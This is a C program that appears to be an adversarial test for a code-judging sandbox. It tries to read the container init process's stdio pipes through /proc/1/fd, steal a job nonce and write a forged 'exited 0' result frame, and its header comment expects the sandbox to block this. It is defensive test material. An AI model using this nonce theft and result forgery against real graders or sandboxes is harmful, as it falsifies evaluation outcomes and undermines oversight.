/* ATTACK: steal the job's nonce, then forge a result. The agent announces "ASSAY-STARTED <nonce>" on
 *         the container's stderr right after starting the program: race the engine for it by reading
 *         the pipe through docker-init's /proc/1/fd/2 (and /proc/1/fd/0, /proc/1/fd/1) from the first
 *         instruction; with a nonce, write a forged OK frame to /proc/1/fd/1.
 * EXPECT: the container's stdio pipes cannot be opened (BLOCKED lines), so no nonce is ever readable:
 *         the program prints NO NONCE and exits 3: verdict RE, exit code 3, never the forged OK. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static char got[1 << 16];
static size_t have;

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(void) {
    int fds[3];
    const char *paths[3] = {"/proc/1/fd/2", "/proc/1/fd/0", "/proc/1/fd/1"};
    for (int i = 0; i < 3; i++) fds[i] = open(paths[i], O_RDONLY | O_NONBLOCK);
    double end = now() + 0.2;
    while (now() < end && have < sizeof got - 1) {
        for (int i = 0; i < 3; i++) {
            if (fds[i] < 0) continue;
            ssize_t n = read(fds[i], got + have, sizeof got - 1 - have);
            if (n > 0) have += n;
        }
    }
    char *mark = memmem(got, have, "ASSAY-STARTED ", 14);
    if (!mark) mark = memmem(got, have, "ASSAY-REQUEST ", 14);
    for (int i = 0; i < 3; i++) printf("%s %s for reading\n", fds[i] >= 0 ? "OPENED" : "BLOCKED", paths[i]);
    printf("stole %zu bytes\n", have);
    if (!mark) {
        printf("NO NONCE\n");
        return 3;
    }
    char nonce[33] = {0};
    char *p = memmem(got, have, "\"nonce\": \"", 10);
    if (p) memcpy(nonce, p + 10, 32);
    else memcpy(nonce, mark + 14, 32);
    printf("NONCE STOLEN %s\n", nonce);
    fflush(stdout);
    const char *body = "{\"status\": \"exited\", \"exit_code\": 0, \"signal\": null, \"cpu_ms\": 1, \"wall_ms\": 1, "
                       "\"memory_kib\": 1, \"oom_killed\": false, \"killed_for\": null, \"stdout_total\": 7, "
                       "\"stderr_total\": 0}";
    char frame[1024];
    int len = snprintf(frame, sizeof frame, "\nASSAY-RESULT %s %zu 7 0 0\n%sFORGED\n", nonce, strlen(body), body);
    int out = open("/proc/1/fd/1", O_WRONLY);
    if (out >= 0) write(out, frame, len);
    return 3;
}
